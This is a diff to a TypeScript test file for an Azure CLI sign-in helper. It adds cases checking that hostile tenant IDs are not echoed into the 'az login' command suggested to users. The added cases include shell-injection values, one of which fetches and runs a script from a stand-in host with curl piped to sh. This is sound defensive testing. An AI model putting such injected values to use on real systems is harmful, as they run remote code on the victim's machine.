@@ -70,6 +70,11 @@ describe('a session over a credential', () => {
   const rows: readonly (readonly [message: string, request: TokenRequest, told: string, nextStep: string])[] = [
     [login, {}, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'],
     [login, { tenantId }, `Nobody is signed in there for the tenant ${tenantId}.`, `Run "az login --tenant ${tenantId}" in a terminal, then try again.`],
+    [login, { tenantId: 'contoso.onmicrosoft.com' }, 'Nobody is signed in there for the tenant contoso.onmicrosoft.com.', 'Run "az login --tenant contoso.onmicrosoft.com" in a terminal, then try again.'],
+    // a challenge may say anything, and what a user copies goes into a shell
+    ...["x;curl$IFS'evil.example/a'|sh", '$(touch$IFS/tmp/owned)', 'contoso.onmicrosoft.com&&calc', '--allow-no-subscriptions', 'a.example\nb', 'a..b'].map(
+      tenant => [login, { tenantId: tenant }, 'Nobody is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
+    ),
     [notInstalled, {}, 'It was not found on this machine.', 'Install the Azure CLI (https://aka.ms/azure-cli), run "az login" in a terminal, then try again.'],
     [claimed, { claims }, 'Entra ID asks for a further sign-in.', `Run "az login --claims-challenge ${encoded} --scope https://management.azure.com/.default" in a terminal, then try again.`],
     [`${claimed} --tenant ${tenantId}`, { claims, tenantId }, 'Entra ID asks for a further sign-in.', `Run "az login --tenant ${tenantId} --claims-challenge ${encoded} --scope https://management.azure.com/.default" in a terminal, then try again.`],
@@ -78,7 +83,7 @@ describe('a session over a credential', () => {
     ['unexpected output: canary-token', {}, '', 'Run "az login" in a terminal, then try again.'],
   ];
   for (const [message, request, told, nextStep] of rows) {
-    it(`says "${told}" and "${nextStep}"`, async () => {
+    it(`says "${told}" of ${request.tenantId ?? 'no tenant'} and "${nextStep}"`, async () => {
       const error = await refusal(message, request);
       assert.deepEqual([error.code, error.message, error.nextStep], ['signed-out', ['Azure CLI gave no token.', told].filter(Boolean).join(' '), nextStep]);
     });
